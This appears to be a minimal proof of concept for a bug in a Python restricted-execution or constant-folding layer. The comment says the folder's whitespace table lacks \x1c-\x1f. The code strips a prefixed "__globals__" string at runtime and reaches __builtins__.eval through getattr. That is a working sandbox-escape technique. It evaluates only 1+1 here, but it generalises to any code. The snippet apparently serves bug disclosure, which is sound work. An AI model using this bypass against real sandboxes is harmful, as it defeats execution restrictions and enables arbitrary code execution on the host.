# literals.cc foldTextMethod strip: kSpace lacks \x1c-\x1f, which str.strip() takes for white space
def f(): pass
n = "\x1c__globals__".strip()
print(getattr(f, n)["__builtins__"].eval("1+1"))
